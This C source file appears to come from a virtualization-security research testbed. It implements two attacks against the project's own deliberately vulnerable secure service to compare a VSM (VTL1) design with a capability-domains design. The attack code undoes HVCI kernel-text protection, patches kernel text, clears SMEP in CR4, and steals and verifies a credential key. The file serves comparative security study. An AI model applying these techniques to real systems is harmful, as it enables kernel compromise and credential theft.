/*
 * The TCB comparison (docs/attacks.md, issue 7): what a compromise of the *secure side* is worth in
 * each design.  The attacker has the kernel (the vulnerable driver, as every attack here) and also a bug
 * in one secure service (the deliberately vulnerable service of guest/vbs/sk/vulnsk.c, enabled only by
 * the word "vulnsk", "vulnsk=<domain>" in the domains design): arbitrary reads and writes inside that
 * component and hypercalls made with its privileges -- code execution inside it, reduced to primitives.
 * With that it goes after a protection that belongs to someone else:
 *
 *   tcb-protect  make the kernel's text writable again and patch it (HVCI's protection), from the
 *                    credential service: VSM: VTL1 may change every VTL0 protection, so it works; domains:
 *                    the credential domain holds no memory capability: MEM_PROTECT answers -EBADF.
 *   tcb-credkey      read the credential key, from the code-integrity service: VSM: the key is VTL1
 *                    memory, VTL1 reads it; domains: the key page is not in the HVCI domain's view (the
 *                    read is a #GP in that domain) and no capability it holds covers it (-EPERM).
 *
 * Each run checks its own success condition: the text byte really changed; the stolen key computes the
 * same HMAC-SHA256 as the credential service.
 */
#include "lib/hyperv.h"
#include "lib/x86.h"
#include "vbs/dom/dom_abi.h"
#include "vbs/sk/vulnsk.h"
#include "vbs/user/ulib.h"

/* SHA-256/HMAC for the proof (ring 3 has no kernel library): the guest's own, renamed to stay private */
#define sha256_block tcb_sha256_block
#define sha256_init tcb_sha256_init
#define sha256_update tcb_sha256_update
#define sha256_final tcb_sha256_final
#define sha256 tcb_sha256
#define hmac_sha256 tcb_hmac_sha256
#include "lib/sha256.c"

#define REQ ((struct vulnsk_request *)U_SCRATCH)

/* one use of the secure-side bug, through the kernel's driver for the service (vbs_vulnsk) */
static long sk_bug(u64 op, u64 a1, u64 a2, u64 r[4])
{
    u64 fn = ksym("vbs_vulnsk");
    if (!fn)
        attack_error("no vbs_vulnsk in /proc/kallsyms");
    struct vulnsk_request *q = REQ;
    q->op = op;
    q->a1 = a1;
    q->a2 = a2;
    q->status = 0;
    memset(q->r, 0, sizeof(q->r));
    long st = kcall(fn, (u64)q);
    if (st == -ENOSYS)
        attack_error("the secure side has no vulnerable service (boot with vulnsk, and vulndrv)");
    if (r)
        memcpy(r, q->r, sizeof(q->r));
    return st;
}

/* a hypercall made by the compromised component: KVM/domains convention (nr, a0..a3) */
static long sk_kvm(u64 nr, u64 a0, u64 a1, u64 a2, u64 a3, u64 r[4])
{
    struct vulnsk_request *q = REQ;
    memset(&q->hc, 0, sizeof(q->hc));
    q->hc.nr = nr;
    q->hc.a[0] = a0;
    q->hc.a[1] = a1;
    q->hc.a[2] = a2;
    q->hc.a[3] = a3;
    sk_bug(VULNSK_HYPERCALL, 0, 0, r);
    return (long)r[0];
}

static int design(void)
{
    u64 d = ksym("vbs_design");
    return d ? (int)(kread(d) & 0xffffffff) : VBS_DESIGN_NONE;
}

/* what the compromised domain holds: CAP_QUERY on its first slots (its table is small) */
struct held {
    int n;
    u64 h[8], type[8], p0[8], p1[8], target[8];
    u64 self_id;
};
static void enumerate(struct held *c)
{
    u64 r[4];
    c->n = 0;
    for (u64 slot = 0; slot < 8; slot++) {
        long q = sk_kvm(DOM_HC_QUERY, slot, 0, 0, 0, r);
        c->self_id = r[3];
        if (q < 0)
            break;
        c->h[c->n] = slot;
        c->type[c->n] = (u64)q & 0xff;
        c->target[c->n] = ((u64)q >> 32) & 0xffff;
        c->p0[c->n] = r[1];
        c->p1[c->n] = r[2];
        c->n++;
    }
}

static const char *errno_name(long e)
{
    return e == -DOM_EPERM ? "EPERM" : e == -DOM_EBADF ? "EBADF" : e == -DOM_EINVAL ? "EINVAL" : e ? "error" : "ok";
}

/* ---- tcb-protect: HVCI's write protection on kernel text, undone from the credential service ---- */
static int attack_tcb_protections(const char *args)
{
    (void)args;
    u64 text = ksym("gadget_write_cr4"); /* kernel text, not run by this attack */
    int d = design();
    if (!text)
        attack_error("missing symbols");
    u64 page = text & ~(u64)0xfff, r[4];
    if (d == VBS_DESIGN_VSM) {
        /* VTL1's own ModifyVtlProtectionMask: VTL0's kernel text page becomes RWX */
        struct vulnsk_request *q = REQ;
        memset(&q->hc, 0, sizeof(q->hc));
        struct hv_modify_vtl_protection_mask *in = (void *)q->hc.input;
        in->partition_id = HV_PARTITION_ID_SELF;
        in->map_flags = HV_MAP_GPA_READABLE | HV_MAP_GPA_WRITABLE | HV_MAP_GPA_EXECUTABLE;
        in->input_vtl = HV_INPUT_VTL(0);
        in->gpa_page_list[0] = page >> 12;
        q->hc.nr = HvCallModifyVtlProtectionMask | HV_REP(1);
        sk_bug(VULNSK_HYPERCALL, 0, 0, r);
        u_printf("  attack: from inside VTL1: ModifyVtlProtectionMask(VTL0, gpa 0x%lx, RWX) -> status 0x%lx\n", page,
                 r[0] & 0xffff);
        if (r[0] & 0xffff)
            attack_blocked("VTL1's ModifyVtlProtectionMask on VTL0's text was refused: status 0x%lx", r[0] & 0xffff);
    } else if (d == VBS_DESIGN_DOMAINS) {
        /* the compromised domain tries its own slots and guesses (a handle names only its own table), then
         * looks at what it really holds */
        long best = -DOM_EBADF;
        for (u64 h = 0; h < 4; h++) { /* its own slots, and guesses: a handle names only its own table */
            long st = sk_kvm(DOM_HC_MEM_PROTECT, h | ((u64)(DOM_R | DOM_W | DOM_X) << 32), 0, page, 1, r);
            u_printf("  attack: MEM_PROTECT(handle %lu, gpa 0x%lx, RWX) -> %ld (%s)\n", h, page, st, errno_name(st));
            best = st;
            if (st == 0)
                goto granted;
        }
        long cr4 = sk_kvm(DOM_HC_REGS_SET, 1, DOM_REG_CR4, kread(ksym("cr4_shadow")) & ~(u64)CR4_SMEP, 0, r);
        struct held c;
        enumerate(&c);
        u_printf("  attack: inside domain %lu: it holds %d capabilit%s\n", c.self_id, c.n, c.n == 1 ? "y" : "ies");
        attack_blocked("the compromised credential domain (domain %lu, %d capabilit%s) cannot touch the kernel's "
                       "protections: MEM_PROTECT -> %ld (%s), REGS_SET(kernel CR4) -> %ld (%s)", c.self_id, c.n,
                       c.n == 1 ? "y" : "ies", best, errno_name(best), cr4, errno_name(cr4));
    granted:;
    } else {
        attack_error("no secure side (design %d)", d);
    }
    /* now patch the kernel's text through the physmap alias (writable in the kernel's own page tables) */
    u64 old = kread(text), patched = old ^ 0xffull;
    kwrite(PHYSMAP_BASE + text, patched);
    u64 now = kread(text);
    kwrite(PHYSMAP_BASE + text, old);
    if (now == patched)
        attack_succeeded("kernel text at 0x%lx rewritten (0x%lx -> 0x%lx, restored): the compromised secure side "
                         "lifted HVCI's protection", text, old, now);
    attack_blocked("the text write did not land (0x%lx)", now);
}
UATTACK("tcb-protect", attack_tcb_protections);

/* ---- tcb-credkey: credential isolation's key, read from the code-integrity service ---- */
static int attack_tcb_credkey(const char *args)
{
    (void)args;
    u64 vbs_va = ksym("vbs");
    if (!vbs_va)
        attack_error("missing symbols");
    u64 key_gpa = kread(vbs_va + __builtin_offsetof(struct vbs_state, sk_key)), r[4];
    int d = design();
    u8 key[32];
    u_printf("  attack: the credential key is at gpa 0x%lx (the kernel's own record, vbs.sk_key)\n", key_gpa);
    for (int i = 0; i < 4; i++) {
        long st = sk_bug(VULNSK_READ, key_gpa + 8 * i, 0, r);
        if (st) {
            u_printf("  attack: READ 0x%lx inside the secure component -> %ld (%s in the component)\n",
                     key_gpa + 8 * i, st, r[1] == 13 ? "#GP" : "fault");
            if (d != VBS_DESIGN_DOMAINS)
                attack_blocked("the read faulted (%ld)", st);
            /* widen our own view with the memory capabilities we hold: refused */
            struct held c;
            enumerate(&c);
            u64 self = ~0ull;
            for (int k = 0; k < c.n; k++)
                if (c.type[k] == DOM_CAP_DOMAIN && c.target[k] == c.self_id)
                    self = c.h[k];
            long best = -DOM_EBADF;
            for (int k = 0; k < c.n; k++) {
                if (c.type[k] != DOM_CAP_MEMORY)
                    continue;
                best = sk_kvm(DOM_HC_MEM_PROTECT, c.h[k] | ((u64)DOM_R << 32), self, key_gpa & ~(u64)0xfff, 1, r);
                u_printf("  attack: MEM_PROTECT(its MEMORY capability 0x%lx-0x%lx, own view of gpa 0x%lx, R) -> %ld "
                         "(%s)\n", c.p0[k], c.p1[k] - 1, key_gpa & ~(u64)0xfff, best, errno_name(best));
                if (best == 0)
                    break;
            }
            if (best == 0 && sk_bug(VULNSK_READ, key_gpa + 8 * i, 0, r) == 0) {
                memcpy(key + 8 * i, r, 8);
                continue;
            }
            attack_blocked("the compromised code-integrity domain (domain %lu) cannot reach the key: its read -> #GP "
                           "(%ld), MEM_PROTECT on its own view -> %ld (%s)", c.self_id, st, best, errno_name(best));
        }
        memcpy(key + 8 * i, r, 8);
    }
    /* proof: the stolen key computes what the credential service computes */
    static const char chal[] = "tcb-credkey-challenge";
    char *buf = (char *)(U_SCRATCH + 0xc00);
    memcpy(buf, chal, sizeof(chal) - 1);
    u8 *svc = (u8 *)(U_SCRATCH + 0xd00), mine[32];
    long st = usys(SYS_CRED_HMAC, (u64)buf, sizeof(chal) - 1, (u64)svc);
    tcb_hmac_sha256(key, 32, (const u8 *)chal, sizeof(chal) - 1, mine);
    if (st == 0 && !memcmp(mine, svc, 32))
        attack_succeeded("stole the credential key (%02x%02x%02x%02x...) through the compromised %s: "
                         "HMAC-SHA256(stolen key, challenge) equals the credential service's", key[0], key[1], key[2],
                         key[3], d == VBS_DESIGN_VSM ? "VTL1" : "domain");
    attack_blocked("read 32 bytes but they are not the key (service %ld)", st);
}
UATTACK("tcb-credkey", attack_tcb_credkey);
